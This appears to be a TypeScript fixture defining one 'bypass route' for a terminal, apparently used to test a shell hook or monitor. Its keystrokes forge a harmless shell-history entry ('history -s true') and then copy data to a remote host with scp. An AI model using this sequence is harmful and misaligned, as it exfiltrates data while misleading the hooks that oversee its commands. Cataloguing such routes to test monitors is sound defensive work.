import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'history that tells another line',
  source: 'attempts to get round a hook of the shell',
  keys: ['history -s true\r', 'scp DATA host:\r'],
};
